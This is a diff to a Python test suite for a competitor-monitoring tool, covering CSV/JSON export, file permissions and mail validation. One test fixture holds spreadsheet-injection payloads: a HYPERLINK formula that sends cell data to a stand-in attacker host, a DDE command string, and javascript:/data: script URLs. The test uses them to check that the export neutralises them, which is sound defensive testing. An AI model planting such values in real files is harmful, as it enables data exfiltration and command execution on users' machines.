@@ -58,7 +58,7 @@ def project(tmp_path: Path) -> Path:
                 for day in range(7)
                 for n in range(per_day)
             )
-            observed = WEEK_START + timedelta(days=7, hours=1)
+            observed = WEEK_START + timedelta(days=6, hours=20)  # read during the week
             harvest = Harvest(
                 observed_at=observed, posts=posts, account=AccountStats(followers=1000 * per_day)
             )
@@ -125,3 +125,120 @@ def test_a_missing_config_says_how_to_start(tmp_path: Path) -> None:
     result = run("status", cwd=tmp_path)
     assert result.returncode == 2
     assert "config/example.yaml" in result.stderr
+
+
+def _hostile_post(project: Path) -> None:
+    """A competitor's post whose title, text and link would run in a spreadsheet."""
+    config = load_config(project / "config" / "monitor.yaml")
+    with Store(f"sqlite:///{project / 'data' / 'monitor.db'}") as store:
+        sync_sources(config, store)
+        acme = next(r.id for r in store.sources() if r.company == "Acme")
+        post = Post(
+            "hostile-1",
+            WEEK_START + timedelta(days=2),
+            url="javascript:alert(document.domain)",
+            title='=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")',
+            text="+cmd|' /C calc'!A0",
+            hashtags=("@sum(1+1)",),
+        )
+        for title, text, ident, url in (
+            ("-2+3", "\tTab first", "hostile-2", "https://acme.example/ok"),
+            ("@SUM(A1:A9)", "\rCR first", "hostile-3", "data:text/html,<script>1</script>"),
+        ):
+            store.save_harvest(
+                acme,
+                Harvest(
+                    observed_at=WEEK_START + timedelta(days=3),
+                    posts=(
+                        Post(
+                            ident, WEEK_START + timedelta(days=2), url=url, title=title, text=text
+                        ),
+                    ),
+                ),
+                track_engagement_for=timedelta(days=14),
+                next_due_at=WEEK_START,
+            )
+        store.save_harvest(
+            acme,
+            Harvest(observed_at=WEEK_START + timedelta(days=3), posts=(post,)),
+            track_engagement_for=timedelta(days=14),
+            next_due_at=WEEK_START,
+        )
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula_or_a_script_link(project: Path) -> None:
+    _hostile_post(project)
+    target = project / "posts.csv"
+    args = ("export", "posts", "--week", "2026-W47", "--company", "Acme", "--output", str(target))
+    result = run(*args, cwd=project)
+    assert result.returncode == 0, result.stderr
+    with target.open(newline="", encoding="utf-8") as stream:
+        rows = {r["external_id"]: r for r in csv.DictReader(stream)}
+    first, second, third = rows["hostile-1"], rows["hostile-2"], rows["hostile-3"]
+    assert (
+        first["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")'
+    )
+    assert first["text"] == "'+cmd|' /C calc'!A0"
+    assert first["hashtags"] == "'@sum(1+1)"
+    assert (second["title"], second["text"]) == ("'-2+3", "'\tTab first")
+    assert (third["title"], third["text"]) == ("'@SUM(A1:A9)", "'\rCR first")
+    # only http(s) addresses are exported as links
+    assert (first["url"], second["url"], third["url"]) == ("", "https://acme.example/ok", "")
+    # numbers stay numbers: nothing neutralised that is not text
+    assert rows["Acme-0-0"]["likes"] == "30"
+    as_json = run("export", "posts", "--week", "2026-W47", "--format", "json", cwd=project)
+    exported = {p["external_id"]: p for p in json.loads(as_json.stdout)}
+    assert exported["hostile-1"]["url"] is None and exported["hostile-3"]["url"] is None
+
+
+def _modes(root: Path) -> dict[str, int]:
+    return {
+        str(path.relative_to(root)): path.stat().st_mode & 0o777
+        for path in root.rglob("*")
+        if path.name != "monitor.yaml" and path.parent.name != "config" and path.name != "config"
+    }
+
+
+def test_database_and_outbox_are_created_readable_by_the_owner_only(tmp_path: Path) -> None:
+    (tmp_path / "config").mkdir()
+    (tmp_path / "config" / "monitor.yaml").write_text(
+        "organization: {name: Us, sources: [feed: 'http://127.0.0.1:9/feed']}\n"
+        "competitors: [{name: Acme, sources: [feed: 'http://127.0.0.1:9/acme']}]\n"
+        "collect: {max_retries: 0, timeout: 2s}\n"
+        "report: {outbox: out}\n"
+        "database: sqlite:///data/monitor.db\n"
+    )
+    os.umask(0o022)  # a usual login shell's umask: files would be world-readable
+    try:
+        collected = run("collect", cwd=tmp_path)
+        reported = run("report", "--week", "2026-W47", cwd=tmp_path)
+    finally:
+        os.umask(0o022)
+    assert collected.returncode == 1 and reported.returncode == 0, reported.stderr
+    modes = _modes(tmp_path)
+    assert {"data/monitor.db", "out/2026-W47.html", "out/2026-W47.eml", "out/index.html"} <= set(
+        modes
+    )
+    assert {name: mode for name, mode in modes.items() if mode & 0o077} == {}
+
+
+def test_the_service_unit_sets_an_owner_only_umask() -> None:
+    unit = (Path(__file__).resolve().parents[1] / "deploy" / "monitor.service").read_text()
+    assert "\nUMask=0077\n" in unit
+
+
+def test_validate_refuses_an_address_the_mail_server_may_not_take(tmp_path: Path) -> None:
+    config = tmp_path / "monitor.yaml"
+    base = (
+        "organization: {name: Us, sources: [feed: 'https://us.example/feed']}\n"
+        "competitors: [{name: Acme, sources: [feed: 'https://acme.example/feed']}]\n"
+        "email: {host: mail.us.example, from: monitor@us.example%s}\n"
+        "report: {recipients: [ceo@bücher.example, jürgen@us.example]}\n"
+    )
+    config.write_text(base % "", encoding="utf-8")
+    refused = run("validate", "-c", str(config), cwd=tmp_path)
+    assert refused.returncode == 2 and "Traceback" not in refused.stderr
+    assert "report.recipients.1: jürgen@us.example" in refused.stderr
+    assert "SMTPUTF8" in refused.stderr and "bücher" not in refused.stderr
+    config.write_text(base % ", smtputf8: true", encoding="utf-8")
+    assert run("validate", "-c", str(config), cwd=tmp_path).returncode == 0
